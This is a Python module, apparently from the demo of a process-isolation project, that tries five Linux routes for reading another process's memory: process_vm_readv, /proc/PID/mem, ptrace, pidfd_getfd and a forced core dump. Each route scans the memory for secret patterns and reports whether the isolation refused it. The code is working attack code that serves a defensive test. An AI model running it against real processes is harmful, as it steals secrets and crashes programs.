"""Attacks on a process's memory: every way in that Linux offers to a program of the same user."""

from __future__ import annotations

import contextlib
import ctypes
import errno
import os
import resource
import signal
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from pyenclave.demo.attacks.outcome import Outcome, refused, succeeded

__all__ = ["ATTACKS"]

_PTRACE_PEEKDATA, _PTRACE_ATTACH, _PTRACE_DETACH = 2, 16, 17
_SYS_PIDFD_OPEN, _SYS_PIDFD_GETFD = 434, 438
# Seconds for a crash and its core. A worker is the first process of its pid namespace, which
# ignores signals from outside that it has no handler for: it does not crash at all.
_CRASH = 2.0
_LONGEST = 60.0  # for a core of any size on a busy machine
_GONE = ("", "Z", "X")
_libc = ctypes.CDLL(None, use_errno=True)


class _Iovec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))


def _why() -> str:
    number = ctypes.get_errno()
    return f"{errno.errorcode.get(number, number)} ({os.strerror(number)})"


def _writable(pid: int) -> Iterator[tuple[int, int]]:
    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        span, perms, *_ = line.split()
        if perms.startswith("rw"):
            start, end = (int(part, 16) for part in span.split("-"))
            yield start, end


def _patterns(order: dict[str, Any]) -> list[bytes]:
    return [bytes.fromhex(text) for text in order["patterns"]]


def process_vm_readv(order: dict[str, Any]) -> Outcome:
    """Read all writable memory, by the system call made for it."""
    pid, patterns, read = order["pid"], _patterns(order), 0
    try:
        regions = list(_writable(pid))
    except PermissionError:
        # The map of addresses is refused already; one blind read shows that reading is, too.
        regions = [(0x10000, 0x11000)]
    for start, end in regions:
        buffer = ctypes.create_string_buffer(min(end - start, 64 << 20))
        local = _Iovec(ctypes.addressof(buffer), len(buffer))
        remote = _Iovec(start, len(buffer))
        size = _libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if size < 0 and ctypes.get_errno() in (errno.EPERM, errno.EACCES):
            return refused(f"process_vm_readv: {_why()}")
        if size > 0:
            read += size
            if any(pattern in buffer.raw for pattern in patterns):
                return succeeded(f"found a secret after reading {read} bytes")
    return refused(f"read {read} bytes, no secret among them")


def proc_mem(order: dict[str, Any]) -> Outcome:
    """Read all writable memory through /proc/PID/mem."""
    pid, patterns, read = order["pid"], _patterns(order), 0
    try:
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for start, end in _writable(pid):
                try:
                    data = os.pread(memory.fileno(), end - start, start)
                except OSError:
                    continue
                read += len(data)
                if any(pattern in data for pattern in patterns):
                    return succeeded(f"found a secret after reading {read} bytes")
    except OSError as error:
        return refused(f"/proc/PID/mem: {error.strerror}")
    return refused(f"read {read} bytes, no secret among them")


def ptrace(order: dict[str, Any]) -> Outcome:
    """Attach as a debugger and read words of the process's memory."""
    pid = order["pid"]
    _libc.ptrace.restype = ctypes.c_long
    _libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if _libc.ptrace(_PTRACE_ATTACH, pid, None, None) < 0:
        return refused(f"PTRACE_ATTACH: {_why()}")
    os.waitpid(pid, 0)
    try:
        start = next(_writable(pid))[0]
        ctypes.set_errno(0)
        word = _libc.ptrace(_PTRACE_PEEKDATA, pid, ctypes.c_void_p(start), None)
        if ctypes.get_errno():
            return refused(f"PTRACE_PEEKDATA: {_why()}")
        return succeeded(f"attached and read the word {word & (2**64 - 1):#x}")
    finally:
        _libc.ptrace(_PTRACE_DETACH, pid, None, None)


def pidfd_getfd(order: dict[str, Any]) -> Outcome:
    """Take a copy of each of the process's descriptors and read it."""
    pidfd = _libc.syscall(_SYS_PIDFD_OPEN, order["pid"], 0)
    if pidfd < 0:
        return refused(f"pidfd_open: {_why()}")
    reason = "no descriptor could be taken"
    for number in range(256):
        taken = _libc.syscall(_SYS_PIDFD_GETFD, pidfd, number, 0)
        if taken < 0:
            if ctypes.get_errno() in (errno.EPERM, errno.EACCES):
                return refused(f"pidfd_getfd: {_why()}")
            continue
        try:
            if any(pattern in os.pread(taken, 64 << 20, 0) for pattern in _patterns(order)):
                return succeeded(f"took descriptor {number}, which holds the table in the clear")
        except OSError:
            reason = f"took descriptor {number}, which holds no secret"
    return refused(reason)


def core_dump(order: dict[str, Any]) -> Outcome:
    """Lift the process's limit on core files, make it crash, and look for the core."""
    pid = order["pid"]
    folder = ""
    with contextlib.suppress(OSError):  # hidden: a core would then be where the pattern says
        folder = os.readlink(f"/proc/{pid}/cwd")
    try:
        resource.prlimit(pid, resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
        lifted = True
    except OSError:
        lifted = False
    try:
        pidfd = os.pidfd_open(pid)
        signal.pidfd_send_signal(pidfd, signal.SIGSEGV)
    except OSError as error:
        return refused(f"the crash was refused: {error.strerror}")
    started = time.monotonic()
    while _state(pid) not in _GONE and time.monotonic() - started < _LONGEST:
        if time.monotonic() - started > _CRASH and _ignored(pid):
            break
        time.sleep(0.02)
    pattern = Path("/proc/sys/kernel/core_pattern").read_text().strip()
    names = [pattern] if pattern.startswith("/") else [f"{folder}/core", f"{folder}/core.{pid}"]
    for name in names:
        if not name.startswith("|") and Path(name).is_file():
            data = Path(name).read_bytes()
            Path(name).unlink()
            if any(secret in data for secret in _patterns(order)):
                return succeeded(f"the core file of {len(data)} bytes holds a secret")
            return refused(f"the core file of {len(data)} bytes holds no secret")
    reasons = [
        *([] if lifted else ["its limit could not be lifted"]),
        *(["it ignored the signal"] if _state(pid) not in _GONE else []),
    ]
    return refused("; ".join(["no core was written", *reasons]))


def _ignored(pid: int) -> bool:
    """Whether the signal is no longer pending and yet no core is being written."""
    try:
        text = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False
    fields = dict(line.split(":\t", 1) for line in text.splitlines() if ":\t" in line)
    pending = int(fields["ShdPnd"], 16) >> (signal.SIGSEGV - 1) & 1
    return not pending and fields.get("CoreDumping", "0").strip() == "0"


def _state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]
    except (OSError, IndexError):
        return ""


ATTACKS: dict[str, Callable[[dict[str, Any]], Outcome]] = {
    "process_vm_readv": process_vm_readv,
    "proc_mem": proc_mem,
    "ptrace": ptrace,
    "pidfd_getfd": pidfd_getfd,
    "core_dump": core_dump,
}
